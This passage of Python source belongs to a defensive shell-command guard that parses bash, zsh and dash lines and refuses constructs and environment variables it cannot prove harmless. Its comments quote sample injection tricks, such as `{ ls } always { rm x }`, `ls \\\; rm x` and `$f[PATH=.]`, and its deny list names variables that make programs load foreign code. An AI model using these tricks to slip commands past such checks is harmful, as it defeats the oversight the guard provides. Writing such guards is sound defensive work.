                    need_cmd = text in ("!", "if", "then", "elif", "else", "do", "while",
                                        "until", "{")
                    # Redirections after `}`, `fi` or `done` belong to the whole construct.
                    cmd.attached = had_cmd
                    continue
                if text in _RESERVED_REFUSE:
                    raise _Give("shell_syntax_unproven")
                if text == "for":
                    self.items.append("for")
                    self._for_header()
                    need_cmd, had_cmd = False, True
                    continue
            elif word.text == "}" and not word.quoted:
                # zsh ends a group at a lone `}` anywhere on the line, where bash
                # sees an argument: `{ ls } always { rm x }` runs rm in zsh.
                raise _Give("shell_syntax_unproven")
            cmd.words.append(word)
            at_start = False
            had_cmd, need_cmd = True, False

    def _assignment_name(self) -> Optional[str]:
        """At a word start: the NAME of an unquoted `NAME=`, consuming it; else None."""
        s, j = self.s, self.i
        if j >= self.n or s[j] not in _NAME_START:
            return None
        while j < self.n and s[j] in _NAME_CHARS:
            j += 1
        if j < self.n and s[j] == "=":
            name = s[self.i:j]
            self.i = j + 1
            return name
        return None

    def _finish(self, cmd: _Cmd, end: int = -1) -> None:
        if not cmd.empty():
            if self.dash and not cmd.words:
                cmd.attached = True   # dash runs no program for a bare redirection
            cmd.end = self.i if end < 0 else end
            self.items.append(cmd)

    def _operator(self) -> str:
        s, i = self.s, self.i
        for op in (";;&", "&>>", ";;", ";&", "&&", "||", "|&", "&>", ";", "&", "|"):
            if s.startswith(op, i):
                self.i = i + len(op)
                return op
        raise _Give("shell_syntax_unproven")  # pragma: no cover

    def _fd_redirect_ahead(self) -> bool:
        j = self.i
        while j < self.n and self.s[j].isdigit():
            j += 1
        return j < self.n and self.s[j] in "<>" and j - self.i <= 2

    def _redir_op(self) -> str:
        s = self.s
        j = self.i
        while j < self.n and s[j].isdigit():
            j += 1
        fd = s[self.i:j]
        self.i = j
        if s.startswith("<", j):
            k = j + 1
            while k < self.n and s[k].isdigit():
                k += 1
            if s.startswith("-", k):
                k += 1
                while k < self.n and s[k].isdigit():
                    k += 1
                if s.startswith(">", k):
                    # zsh globs `<1-9>` (and `<->`) for numbered files where bash
                    # reads `< 1-9` and writes `> ...`: `uniq a <-> /dev/null`.
                    raise _Give("shell_syntax_unproven")
        for op in ("<<<", "<<-", "<<", "<>", "<&", "<(", "<", ">>", ">|", ">&", ">(", ">"):
            if s.startswith(op, self.i):
                if op in ("<(", ">("):
                    break
                self.i += len(op)
                return fd + "\x01" + op
        # '<(' or '>(' in argument position: a process substitution word.
        self.i += 1
        return fd + "\x01" + s[self.i - 1]

    def _redirection(self, cmd: _Cmd, op: str) -> None:
        fd, _, kind = op.rpartition("\x01")
        if kind in ("<", ">") and self.s.startswith("(", self.i):
            # <(...) / >(...) standing as an argument
            start = self.i - 1
            self.i += 1
            self._nested(")", "$(")
            if kind == ">":
                # The inner commands are collected; what they do with the data is unproven.
                self.items.append(_unknown("shell_syntax_unproven", "procsub",
                                           self.s[start:self.i]))
            cmd.words.append(_W("/dev/fd/63", dyn=True, lead=True))
            return
        while self.i < self.n and self.s[self.i] in " \t":
            self.i += 1
        if self.s.startswith(("<(", ">("), self.i):
            # Output into a process substitution: the inner commands are
            # collected; what they do with the data is not proven.
            start = self.i
            self.i += 2
            self._nested(")", "$(")
            self.items.append(_unknown("shell_syntax_unproven", "procsub",
                                       self.s[start:self.i]))
            return
        if kind in ("<<", "<<-"):
            word = self._word()
            if word.dyn:
                raise _Give("shell_syntax_unproven")
            self.heredocs.append((word.text, word.quoted, kind == "<<-", cmd))
            cmd.redirs.append((fd + kind, None))
            return
        if kind in (">", ">>", ">&", "&>", "&>>") and self.s.startswith("!", self.i):
            self._clobber(cmd, fd + kind)
            return
        if self.i >= self.n or self.s[self.i] in _META:
            raise _Give("shell_syntax_unproven")
        word = self._word()
        cmd.redirs.append((fd + kind, word))

    def _clobber(self, cmd: _Cmd, op: str) -> None:
        """`>! f`, `>>! f`, `>&! f`: zsh writes f (the `!` overrides noclobber);
        bash and dash write a file named `!` and pass f to the command.  Both
        targets are kept, and the command is judged with and without f."""
        self.i += 1
        if self.i < self.n and self.s[self.i] not in _META:
            word = self._word()                       # `>!f`: bash writes `!f`
            bang = _W("!" + word.text, dyn=word.dyn, split=word.split, glob=word.glob,
                      quoted=word.quoted)
            cmd.redirs.append((op, bang))
            cmd.redirs.append((op, word))
            return
        cmd.redirs.append((op, _lit("!")))
        while self.i < self.n and self.s[self.i] in " \t":
            self.i += 1
        if self.i >= self.n or self.s[self.i] in _META:
            return
        word = self._word()
        cmd.redirs.append((op, word))
        cmd.words.append(word)
        cmd.zsh_drop.append(word)

    def _read_heredocs(self) -> None:
        """Consume pending heredoc bodies after a newline; bodies are data, never commands."""
        s = self.s
        pending, self.heredocs = self.heredocs, []
        for delim, quoted, strip, owner in pending:
            body: List[str] = []
            while True:
                if self.i >= self.n:
                    raise _Give("shell_syntax_unproven", why=("heredoc_open", delim))
                end = s.find("\n", self.i)
                if end < 0:
                    end = self.n
                line = s[self.i:end]
                self.i = min(end + 1, self.n)
                check = line.lstrip("\t") if strip else line
                if check == delim:
                    break
                if not quoted and ("`" in line or "$(" in line or "${" in line or "$[" in line
                                   or line.endswith("\\")):
                    # A trailing backslash joins the next line in an unquoted body:
                    # `$\` then `(cmd)` is a command substitution.
                    raise _Give("shell_syntax_unproven", why=("heredoc", line, delim))
                if not quoted and "$" in line and _an_rx(
                        "hdsub", r"\$(#?[A-Za-z_][A-Za-z0-9_]*|[0-9@*#?$!-])\[").search(line):
                    # zsh expands $f[PATH=5] in the body too, as arithmetic that
                    # assigns, in this shell when the command is a builtin.
                    raise _Give("shell_syntax_unproven", why=("heredoc", line, delim))
                body.append(check)
            # Kept so that content written by `cat > f <<EOF` can be checked for intents.
            # (an unquoted body keeps its $name text: intents do not depend on values).
            owner.stdin = "\n".join(body) + "\n"
            owner.stdin_literal = quoted

    def _for_header(self) -> None:
        """`for NAME [in WORDS]` up to the separator; the loop body is ordinary commands."""
        s = self.s
        while self.i < self.n and s[self.i] in " \t":
            self.i += 1
        if s.startswith("((", self.i):
            raise _Give("shell_syntax_unproven")
        name = self._word()
        if not name.static or not _plain_var(name.text):
            # for PATH in ./bin; do git status; done would run ./bin/git.
            raise _Give("state_change" if name.static and _is_name(name.text)
                        else "shell_syntax_unproven")
        while self.i < self.n and s[self.i] in " \t":
            self.i += 1
        if self.i >= self.n or s[self.i] in ";\n":
            self.loops[name.text] = None    # `for x; do`: the positional parameters
            return
        word = self._word()
        if word.quoted or word.text != "in":
            # `for x do cmd; done` loops over "$@": cmd is a command, not a list word.
            raise _Give("shell_syntax_unproven")
        values: Optional[List[_W]] = self.loops.get(name.text, [])
        while True:
            while self.i < self.n and s[self.i] in " \t":
                self.i += 1
            if self.i >= self.n or s[self.i] in ";\n":
                # Every loop over the name adds its words: the body of any of
                # them may see any value (write targets read the union).
                self.loops[name.text] = values
                return
            if s[self.i] in _META:
                raise _Give("shell_syntax_unproven")
            item = self._word()  # the list; nested substitutions are collected as commands
            if item.text == "}" and not item.quoted:
                raise _Give("shell_syntax_unproven")   # zsh: the end of a group
            if values is not None:
                values.append(item)

    def _nested(self, closer: str, mark: str) -> None:
        """A substitution's commands, between the marks `$(` and `$)`: they run
        in a shell of their own, so a `cd` inside stays inside."""
        if self.depth + 1 > _MAX_DEPTH:
            raise _Give("analysis_limit")
        if self.heredocs:
            # bash reads a substitution with its own parser: a body pending
            # outside is not taken from the lines inside it, so those lines
            # would be commands we took for heredoc text.
            raise _Give("shell_syntax_unproven")
        self.depth += 1
        start = len(self.items)
        self.items.append(mark)
        try:
            self._list(closer, 0)
        finally:
            self.depth -= 1
        self._close_substitution(start)

    def _close_substitution(self, start: int) -> None:
        body = [x for x in self.items[start + 1:] if x != ";"]
        if len(body) == 1 and isinstance(body[0], _Cmd) and not body[0].words \
                and not body[0].assigns and len(body[0].redirs) == 1 \
                and body[0].redirs[0][0].lstrip("0123456789") == "<":
            body[0].attached = True   # `$(< f)` reads f in bash and zsh alike: no command runs
        self.items.append("$)")

    # ---- words --------------------------------------------------------------
    def _word(self) -> _W:
        s, n = self.s, self.n
        out: List[str] = []
        exp: List[Tuple[Any, bool]] = []
        dyn = split = glob = quoted = False
        lead: Optional[bool] = None   # decided by the first character
        brace = False

        def first(is_literal: bool, ch: str) -> None:
            nonlocal lead
            if lead is None:
                lead = is_literal and ch != "-"

        # zsh replaces a word that starts with an unquoted `=cmd` by the path
        # of cmd (`==x` and a lone `=` fail or stay as they are).
        equals = s.startswith("=", self.i) and self.i + 1 < n \
            and s[self.i + 1] not in _META and s[self.i + 1] != "="
        while self.i < n:
            c = s[self.i]
            if c in _META:
                break
            if c == "\\":
                if self.i + 1 >= n:
                    raise _Give("shell_syntax_unproven")
                nxt = s[self.i + 1]
                self.i += 2
                if nxt == "\n":
                    continue
                first(True, nxt)
                out.append(nxt)
                continue
            if c == "'":
                end = s.find("'", self.i + 1)
                if end < 0:
                    raise _Give("shell_syntax_unproven")
                piece = s[self.i + 1:end]
                if piece:
                    first(True, piece[0])
                out.append(piece)
                quoted = True
                self.i = end + 1
                continue
            if c == '"':
                self.i += 1
                quoted = True
                d = self._dquote(out, first, exp)
                dyn = dyn or d
                continue
            if c == "$":
                nxt = s[self.i + 1] if self.i + 1 < n else ""
                if nxt == "'" and self.dash:
                    first(True, "$")        # dash: a plain `$`, then a quoted string
                    out.append("$")
                    self.i += 1
                    continue
                if nxt == "'":
                    end = self.i + 2
                    while end < n and s[end] != "'":
                        end += 2 if s[end] == "\\" else 1
                    if end >= n:
                        raise _Give("shell_syntax_unproven")
                    piece = _ansi_c(s[self.i + 2:end])
                    if piece:
                        first(True, piece[0])
                    out.append(piece)
                    quoted = True
                    self.i = end + 1
                    continue
                if nxt == '"':
                    raise _Give("shell_syntax_unproven")
                if self._dollar():
                    first(False, "")
                    out.append("\0")
                    exp.append((self.exp, False))
                    dyn = split = True
                    continue
                first(True, "$")
                out.append("$")
                self.i += 1
                continue
            if c == "`":
                self._backtick()
                first(False, "")
                out.append("\0")
                exp.append((self.exp, False))
                dyn = split = True
                continue
            if c in "*?":
                if self.i + 1 < n and s[self.i + 1] == "(":
                    raise _Give("shell_syntax_unproven")  # extglob
                first(False, c)
                glob = True
                out.append(c)
                self.i += 1
                continue
            if c == "[":
                rest_end = self.i
                while rest_end < n and s[rest_end] not in _META:
                    rest_end += 1
                if "]" in s[self.i + 1:rest_end]:
                    first(False, c)
                    glob = True
                else:
                    first(True, c)
                out.append(c)
                self.i += 1
                continue
            if c in "+@!" and self.i + 1 < n and s[self.i + 1] == "(":
                raise _Give("shell_syntax_unproven")  # extglob
            if c == "~" and s.startswith("~[", self.i):
                # zsh's dynamic named directory: ~[name] calls a shell function.
                raise _Give("shell_syntax_unproven")
            if c == "{":
                brace = True
            first(True, c)
            out.append(c)
            self.i += 1
        text = "".join(out)
        if brace and not glob and text not in ("{", "{}"):
            tail = text[text.index("{"):] if "{" in text else ""
            if "," in tail or ".." in tail:
                glob = True
                if text.startswith("{"):
                    lead = False
        if lead is None:
            lead = True
        return _W(text, dyn=dyn or equals, split=split, glob=glob, lead=lead, quoted=quoted,
                  exp=exp)

    def _dquote(self, out: List[str], first: Callable[[bool, str], None],
                exp: List[Tuple[Any, bool]]) -> bool:
        """Inside "...": only $, backtick and backslash are special."""
        s, n = self.s, self.n
        dyn = False
        while True:
            if self.i >= n:
                raise _Give("shell_syntax_unproven")
            c = s[self.i]
            if c == '"':
                self.i += 1
                return dyn
            if c == "\\" and self.i + 1 < n and s[self.i + 1] in '$`"\\\n':
                nxt = s[self.i + 1]
                self.i += 2
                if nxt != "\n":
                    first(True, nxt)
                    out.append(nxt)
                continue
            if c == "$":
                nxt = s[self.i + 1] if self.i + 1 < n else ""
                if self._dollar():
                    first(False, "")
                    out.append("\0")
                    exp.append((self.exp, True))
                    dyn = True
                    continue
            if c == "`":
                self._backtick()
                first(False, "")
                out.append("\0")
                exp.append((self.exp, True))
                dyn = True
                continue
            first(True, c)
            out.append(c)
            self.i += 1

    def _dollar(self) -> bool:
        """At '$': consume an expansion and return True, or return False for a literal '$'."""
        s, n, i = self.s, self.n, self.i
        nxt = s[i + 1] if i + 1 < n else ""
        if nxt == "(":
            if s.startswith("((", i + 1):
                end = _arith_end(s, i + 3)
                if end < 0 or any(ch not in _ARITH_OK for ch in s[i + 3:end]) \
                        or not _arith_static(s[i + 3:end]):
                    raise _Give("shell_syntax_unproven")
                self.i = end + 2
                self.exp = ("other",)
                return True
            self.i = i + 2
            self._nested(")", "$(")
            self.exp = ("sub", s[i + 2:self.i - 1])
            return True
        if nxt == "{":
            end = s.find("}", i + 2)
            body = s[i + 2:end] if end > 0 else ""
            if end < 0 or not body or any(ch not in _PARAM_OK for ch in body) \
                    or body[0] in "^+" or not _param_safe(body):
                # ${^x} and ${+x} are zsh's (array product, is-set); bash refuses them
                raise _Give("shell_syntax_unproven")
            self.i = end + 1
            self.exp = _param_expansion(body)
            return True
        if nxt == "[" or (nxt and nxt in "~=^+"):
            # zsh: $~x globs the value (a glob qualifier in it runs code), $=x
            # splits it, $^x and $+x too; bash prints these as text.
            raise _Give("shell_syntax_unproven")
        j = i + 1
        if nxt and (nxt in _NAME_START):
            while j < n and s[j] in _NAME_CHARS:
                j += 1
        elif nxt == "#" and i + 2 < n and s[i + 2] in _NAME_START:
            j = i + 2                # zsh: $#name is the length of name
            while j < n and s[j] in _NAME_CHARS:
                j += 1
        elif nxt and (nxt.isdigit() or nxt in "@*#?$!-"):
            j = i + 2
        else:
            return False
        if s.startswith("[", j):
            # zsh reads $name[...] as a subscript, evaluated as arithmetic that
            # may assign: `echo $f[PATH=.]` sets PATH.  bash sees a glob.
            raise _Give("shell_syntax_unproven")
        self.exp = ("var", s[i + 1:j], None) if _is_name(s[i + 1:j]) else ("other",)
        self.i = j
        return True

    def _backtick(self) -> None:
        end = self.s.find("`", self.i + 1)
        if end < 0:
            raise _Give("shell_syntax_unproven")
        body = self.s[self.i + 1:end]
        if "\\" in body:
            raise _Give("shell_syntax_unproven")
        self.i = end + 1
        sub = _Bash(body, self.depth + 1, self.dash)
        sub.items = self.items
        sub.loops = self.loops
        start = len(self.items)
        self.items.append("$(")
        sub.parse()
        self._close_substitution(start)
        self.exp = ("sub", body)


# ---- classification ---------------------------------------------------------

_DEV_SINKS = frozenset(("/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/fd/1",
                        "/dev/fd/2"))
_BIN_DIRS = frozenset(("/bin", "/usr/bin", "/usr/local/bin", "/sbin", "/usr/sbin",
                       "/opt/homebrew/bin", "/usr/local/sbin"))
# Prefix assignments that only change presentation; any other one is unknown.
_SAFE_ENV = frozenset(("LANG", "LANGUAGE", "TZ", "NO_COLOR", "TERM", "COLUMNS", "LINES",
                       "CLICOLOR", "CLICOLOR_FORCE", "FORCE_COLOR", "GREP_COLOR", "GREP_COLORS",
                       "RIPGREP_CONFIG_PATH", "TIME_STYLE", "POSIXLY_CORRECT"))
_SAFE_PAGERS = frozenset(("cat", ""))

# Variables that make a program run or load other code, read other
# configuration, or write somewhere: a prefix assignment of one of these
# (exact, or a prefix ending in *) leaves the command unproven.  The phrase
# is what a denial says (%s: the program).  Families whose members nobody
# has listed one by one are refused whole: when unsure, refuse.
_ENV_WHY: Tuple[Tuple[str, str], ...] = (
    ("LD_*", "makes %s load other code"), ("DYLD_*", "makes %s load other code"),
    ("GCONV_PATH", "makes %s load other code"), ("GLIBC_TUNABLES", "changes how %s loads"),
    ("MALLOC_*", "changes how %s runs"),
    ("BASH_ENV", "makes a shell run a script first"), ("ENV", "makes a shell run a script first"),
    ("BASH_*", "changes how a shell runs"), ("SHELLOPTS", "changes how a shell runs"),
    ("BASHOPTS", "changes how a shell runs"), ("ZDOTDIR", "makes zsh read other startup files"),
    ("PS4", "runs code when a shell traces"), ("PROMPT_COMMAND", "runs code at each prompt"),
    ("PS1", "sets a prompt a shell may expand"), ("PS2", "sets a prompt a shell may expand"),
    ("PS3", "sets a prompt a shell may expand"), ("PROMPT*", "sets a prompt a shell may expand"),
    ("RPROMPT*", "sets a prompt a shell may expand"), ("RPS*", "sets a prompt a shell may expand"),
    ("IFS", "changes how the shell splits words"), ("PATH", "changes which program runs"),
    ("CDPATH", "changes where cd goes"), ("PWD", "changes what %s takes as its folder"),
    ("OLDPWD", "changes where cd - goes"), ("SHELL", "names the shell %s may start"),
    # On Windows every shell=True child (Python's platform.uname() runs `ver`
    # that way) starts %ComSpec%.
    ("COMSPEC", "names the shell %s may start"),
    ("HOME", "points %s at other configuration"), ("XDG_*", "points %s at other configuration"),
    ("GIT_*", "changes what git reads, runs or writes"),
    ("PAGER", "names a program %s runs"), ("MANPAGER", "names a program %s runs"),
    ("EDITOR", "names an editor %s may run"), ("VISUAL", "names an editor %s may run"),
    ("LESS*", "changes what less runs"), ("BROWSER", "names a program %s may run"),
    ("PYTHON*", "changes what Python loads or runs"), ("NODE_*", "changes what Node loads or runs"),
    ("NPM_*", "changes npm's configuration"), ("YARN_*", "changes yarn's configuration"),
    ("PNPM_*", "changes pnpm's configuration"), ("BUN_*", "changes bun's configuration"),
    ("PERL*", "changes what Perl loads or runs"), ("RUBY*", "changes what Ruby loads or runs"),
    ("GEM_*", "changes where Ruby gems come from"), ("BUNDLE_*", "changes bundler's setup"),
    ("JAVA*", "loads options into Java"), ("_JAVA_OPTIONS", "loads options into Java"),
    ("JDK_JAVA_OPTIONS", "loads options into Java"), ("GO*", "changes which Go toolchain runs"),
    ("CGO_*", "changes what Go compiles with"), ("CARGO*", "changes cargo's setup"),
    ("RUST*", "changes how Rust tools run"), ("PIP_*", "changes pip's configuration"),
    ("UV_*", "changes uv's configuration"), ("POETRY_*", "changes poetry's configuration"),
    ("CONDA*", "changes conda's setup"), ("VIRTUAL_ENV", "changes which Python runs"),
    ("DOTNET_*", "changes .NET's setup"), ("NUGET_*", "changes .NET's setup"),
    ("COMPOSER*", "changes composer's setup"), ("SSH_*", "changes what ssh runs"),
    ("GNUPG*", "points gpg at other configuration"), ("GPG_*", "changes what gpg runs"),
    ("DOCKER_*", "points docker elsewhere"), ("KUBE*", "points kubectl at other configuration"),
    ("HELM_*", "changes helm's setup"), ("AWS_*", "changes the cloud account used"),
    ("TF_*", "changes terraform's setup"), ("TERMINFO*", "points %s at other terminal data"),
    ("TERMCAP", "points %s at other terminal data"), ("GZIP", "passes options to gzip"),
    ("BZIP*", "passes options to bzip2"), ("XZ_*", "passes options to xz"),
    ("ZSTD_*", "passes options to zstd"), ("UNZIP", "passes options to unzip"),
    ("ZIPINFO", "passes options to zipinfo"),
    ("SYSTEMD_*", "names the pager and its options for systemd tools"),
    # sd-bus and libdbus connect to these addresses, and a `unixexec:path=P`
    # address runs P (seen: hostnamectl and systemctl status ran it).
    ("DBUS_*", "points %s at a message bus, whose address may name a program to run"),
    # tar reads $TAPE without -f; `host:file` there runs rsh host rmt (seen).
    ("TAPE", "names the archive %s reads, which may be on another machine"),
    ("CC", "names the compiler %s runs"),
    ("CXX", "names the compiler %s runs"), ("CPP", "names the preprocessor %s runs"),
    ("LD", "names the linker %s runs"), ("AR", "names a program %s runs"),
    ("OPENSSL_*", "makes openssl load other modules"), ("SUDO_*", "changes what sudo runs"),
    ("NULLCMD", "names a program zsh runs"), ("READNULLCMD", "names a program zsh runs"),
    ("STTY", "makes zsh run stty"), ("SSLKEYLOGFILE", "makes %s write its TLS keys to a file"),
)
# Parts of a name that suggest a program reads it to find code, configuration
# or an output file: unsure, so refused.
_ENV_RISKY_PARTS = ("PATH", "HOME", "DIR", "CONF", "OPT", "FLAGS", "CMD", "COMMAND", "EXEC",
                    "PROG", "HOOK", "PLUGIN", "PRELOAD", "LIB", "EDITOR", "PAGER", "SHELL",
                    "ASKPASS", "PROXY", "TRACE", "LOG", "HIST", "FILE", "RC", "ENV", "RSH",
                    "AUDIT", "INCLUDE", "MODULE", "LOAD", "SCRIPT", "STARTUP", "INIT",
                    "PROFILE", "PREFIX", "ROOT", "INDEX", "TEMPLATE", "WRAP", "TMP", "TEMP",
                    "SOCK", "OUT", "DUMP", "CACHE", "BROWSER", "HOST", "URL", "SERVER",
                    "ENDPOINT", "REGISTRY", "MIRROR", "ENGINE", "ADDR", "BUS")


def _env_risky(upper: str) -> bool:
    for pattern, _ in _ENV_WHY:
        if upper == pattern or (pattern.endswith("*") and upper.startswith(pattern[:-1])):
            return True
    return upper.startswith("_") or any(part in upper for part in _ENV_RISKY_PARTS)


def _env_ok(name: str, value: _W) -> bool:
    """Whether `NAME=value cmd` judges like `cmd`: the variable only changes
    presentation, or no program is known to read it (FOO=1, CI=true).  Names
    that run code, point at configuration or look like they might are refused."""
    if name.startswith("LC_") or name in _SAFE_ENV:
        return name != "RIPGREP_CONFIG_PATH" or value.text == ""
    if name in ("PAGER", "GIT_PAGER", "MANPAGER"):
        return value.static and value.text in _SAFE_PAGERS
    if name in _PICKS_PINNED_BY:
        return value.static and value.text == _PICKS_PINNED_BY[name][1]
    if name != name.upper() and not _plain_var(name):
        return False
    return not _env_risky(name.upper())


def _program_name(word: _W) -> Optional[str]:
    if not word.static or not word.text:
        return None
    text = word.text
    if "/" in text:
        head, _, base = text.rpartition("/")
        if head not in _BIN_DIRS:
            return None
        text = base
    if not text.isascii():
        return None
    return text.lower()


class _Ctx:
    """Where the analysis is: nesting depth, shell, and (only when a denial
    is being explained) `seen`, the list every judged piece is added to as
    (where, verdict): a _Cmd, a _Spot or None, and its _V."""

    __slots__ = ("depth", "shell", "seen", "vars", "vars_unknown", "globs_unknown")

    def __init__(self, depth: int, shell: str, seen: Optional[list] = None) -> None:
        self.depth = depth
        self.shell = shell
        self.seen = seen
        # Variables the line sets -> the words it sets them to (None: a
        # value the guard cannot read); filled by _bash_items for its line.
        self.vars: Optional[Dict[str, Optional[List[_W]]]] = None
        self.vars_unknown = False   # the line may set any variable (eval, source...)
        self.globs_unknown = False  # the line changes how globs match (shopt, setopt)

    def deeper(self) -> "_Ctx":
        if self.depth + 1 > _MAX_DEPTH:
            raise _Give("analysis_limit")
        return _Ctx(self.depth + 1, self.shell, self.seen)


def _classify_cmd(cmd: _Cmd, ctx: _Ctx) -> _V:
    v = _V()
    for op, target in cmd.redirs:
        v.join(_redir_verdict(op, target))
    env_capped: Optional[str] = None
    for name, value in cmd.assigns:
        if env_capped is None and not _env_ok(name, value):
            env_capped = name
    if not cmd.words:
        if cmd.assigns:
            return v.join(_unknown("state_change", "assign", cmd.assigns[0][0]))
        if not cmd.attached:
            # A redirection with no command: zsh runs $NULLCMD (cat) for it,
            # or for an input alone $READNULLCMD (a pager, `more`).
            v.join(_unknown("shell_syntax_unproven", "zsh",
                            cmd.src[cmd.start:cmd.end].strip(" \t\n;&|"), "nullcmd"))
        return v
    inner = _classify_argv(cmd.words, ctx)
    if inner.why and inner.why[0] == "project" and _pinned(inner.why[1], cmd.assigns):
        inner = _classify_program(cmd.words, ctx)
    if cmd.zsh_drop:
        # `cmd a >! b`: bash runs `cmd a b`, zsh `cmd a`; both readings count.
        inner.join(_classify_argv([w for w in cmd.words if w not in cmd.zsh_drop], ctx))
    if cmd.stdin is not None or (inner.why and inner.why[0] == "pystdin"):
        inner = _stdin_program(cmd, inner, ctx)
    if env_capped is not None:
        inner.cap("state_change", ("env", env_capped))
    v.join(inner)
    v.cd = inner.cd
    if v.mut == "write" and v.targets:
        content = _written_text(cmd)
        written = {w.text for w in cmd.words} | {w.text for _, w in cmd.redirs if w is not None}
        for t in v.targets:
            if _cmd_name(cmd) in _COPIERS and t not in written:
                continue   # `dest/package.json` if dest is a folder: see _manifest_by_name
            # A write straight into a manifest can add a dependency...
            if manifest_kind(t) is not None and not v.dep:
                v.dep = _redirect_dep(cmd, t)
            # ...and code written through the shell can add hashing.
            if content and not v.hash and _hash_family(t) is not None:
                v.hash = hash_intent_in_text(content, t)
    if v.mut == "write" and not v.dep:
        v.dep = _manifest_by_name(cmd, inner.mut == "write")
    if cmd.stdin and _cmd_name(cmd) in ("apply_patch", "applypatch"):
        patch = analyze_patch(cmd.stdin)
        v.targets.extend(patch.paths)
        v.hash = v.hash or patch.hash_intent
        v.dep = v.dep or patch.dependency_intent
    elif cmd.stdin and (_cmd_name(cmd) == "patch" or [w.text for w in cmd.words[:2]] == [
            "git", "apply"]):
        # A diff given on stdin: what it adds is read like any patch.
        patch = analyze_patch(cmd.stdin)
        v.hash = v.hash or patch.hash_intent
        v.dep = v.dep or patch.dependency_intent
    return v


_STDIN_SHELLS = frozenset(("bash", "sh", "zsh", "dash", "ksh"))


def _stdin_body(cmd: _Cmd) -> Optional[str]:
    """What the program reads on stdin when one here-document or here-string
    gives it, and nothing else redirects stdin; else None."""
    given = [(op, w) for op, w in cmd.redirs
             if op.rstrip("<>&-").lstrip("0") == "" and op.lstrip("0123456789").startswith("<")]
    if len(given) != 1 or cmd.piped:
        # none, or a later `< file` that replaces the here-document; or a
        # pipe into it, which zsh reads first: `echo CODE | python3 -I - <<'EOF'`
        return None
    op, word = given[0]
    kind = op.lstrip("0123456789")
    if kind in ("<<", "<<-"):
        return cmd.stdin
    if kind == "<<<" and word is not None and word.static:
        return word.text + "\n"
    return None


def _stdin_program(cmd: _Cmd, verdict: _V, ctx: _Ctx) -> _V:
    """A heredoc fed to a shell is a script we can read; fed to an interpreter, code to scan."""
    name = _cmd_name(cmd)
    if cmd.words and (name is None or name not in _PROGRAMS):
        name = _program_alias(cmd.words[0]) or name
    body = cmd.stdin or ""
    if verdict.why and verdict.why[0] == "pystdin":
        code = _stdin_body(cmd)
        literal = cmd.stdin_literal or cmd.stdin is None
        if code is None or not (literal or ("$" not in code and "\\" not in code
                                            and "`" not in code)):
            # Expanded before Python reads it: never proven, still read for intent.
            return _code_intents(verdict, body, "x.py")
        proven = _python_verdict(name or "python3", code, verdict.why[2], "stdin", verdict)
        return proven if proven.mut == "read" else _code_intents(proven, code, "x.py")
    if name in _STDIN_SHELLS and _stdin_body(cmd) is not None \
            and all(w.static and w.text in ("-s", "-e", "-x", "-u", "-eu", "-ex", "-eux", "-")
                    for w in cmd.words[1:]):
        if not cmd.stdin_literal and ("$" in body or "\\" in body):
            # The body is expanded before the shell reads it: `\\` becomes `\`,
            # so `ls \\\; rm x` reaches the shell as `ls \\; rm x`.
            return verdict
        script = _analyze_bash(body, ctx.deeper())
        script.cd = None      # a shell of its own: its cd stays there
        return script
    lang = "node" if name == "bun" else _INTERPRETERS.get(name or "")
    if lang is not None:
        _code_intents(verdict, body, _INLINE_CODE[lang][0])
    return verdict


def _cmd_name(cmd: _Cmd) -> Optional[str]:
    return _program_name(cmd.words[0]) if cmd.words else None


def _written_text(cmd: _Cmd) -> Optional[str]:
    """Static text a command writes: echo/printf arguments or a heredoc fed to cat/tee."""
    name = _cmd_name(cmd)
    if name in ("echo", "printf") and all(w.static for w in cmd.words[1:]):
        args = [w.text for w in cmd.words[1:] if not (name == "echo" and w.text in ("-e", "-n"))]
        text = " ".join(args) if name == "echo" else (args[0] if args else "")
        return text.replace("\\n", "\n")
    if name in ("cat", "tee") and cmd.stdin is not None:
        return cmd.stdin
    return None


_NO_CONTENT_WRITERS = frozenset(("rm", "rmdir", "unlink", "shred", "touch", "chmod", "chown",
                                 "chgrp", "truncate", "mkdir", "git"))


def _mv_source(words: List[_W], target: str) -> bool:
    """Whether `target` is only a source of this mv (the last operand is the
    destination unless -t/--target-directory names it)."""
    for w in words[1:]:
        t = w.text
        if t == "--":
            break
        if t.startswith("--target-directory") or (
                t.startswith("-") and not t.startswith("--") and "t" in t[1:]):
            return True
    return target != words[-1].text


def _redirect_dep(cmd: _Cmd, target: str) -> bool:
    """Dependency intent of text written into a manifest by echo/printf redirection."""
    words = cmd.words
    name = _program_name(words[0]) if words else None
    redirected = any(w is not None and w.static and w.text == target for _, w in cmd.redirs)
    if not redirected and name in _NO_CONTENT_WRITERS:
        return False   # removing, touching or restoring a manifest adds nothing
    if not redirected and name == "mv" and _mv_source(words, target):
        return False   # a manifest moved away is a source of mv, not its new content
    text = _written_text(cmd)
    if text is not None:
        return dependency_intent_in_change(target, None, text)
    return True


_COPIERS = frozenset(("cp", "mv", "install", "ln", "rsync", "scp", "ditto", "gcp", "gmv"))
_SCRIPTED_WRITERS = frozenset(("awk", "gawk", "mawk", "nawk", "sed", "gsed", "perl"))


def _manifest_token(text: str) -> bool:
    """Whether a word names a manifest anywhere in it (`print > "go.mod"`)."""
    if manifest_kind(text) is not None:
        return True
    for sep in "\"'`()<>;,|&{}=[] \t\n":
        text = text.replace(sep, "\0")
    return any(manifest_kind(token) is not None for token in text.split("\0") if token)


def _manifest_by_name(cmd: _Cmd, program_writes: bool) -> bool:
    """A write that lands on a manifest without naming it as its target: a copy
    into a folder (`cp ../a/package.json .`), a download saved under its remote
    name (`wget https://x/requirements.txt`), a script that writes one
    (`awk '{print > "requirements.txt"}'`).  Its content is not known."""
    name = _cmd_name(cmd)
    words = cmd.words[1:]
    texts = [w.text for w in words if w.static]
    operands = [t for t in texts if not t.startswith("-")]
    if name in _COPIERS and len(operands) >= 2:
        dest = operands[-1]
        into = [t for t in texts if t.startswith("--target-directory")]
        if "-t" in texts or into:
            sources, folder = operands, True
        else:
            base = dest.rstrip("/").rsplit("/", 1)[-1]
            sources = operands[:-1]
            folder = dest.endswith("/") or base in (".", "..", "~", "") or "." not in base
        return folder and any(manifest_kind(t) is not None for t in sources)
    if name in ("wget", "curl"):
        saves_remote = name == "wget" or any(t in ("-O", "--remote-name", "--remote-name-all")
                                             for t in texts)
        for k, t in enumerate(texts):
            if name == "wget" and t in ("-O", "--output-document") and k + 1 < len(texts):
                if manifest_kind(texts[k + 1]) is not None:
                    return True
            if t.startswith(("--output-document=", "-O")) and len(t) > 2 and name == "wget":
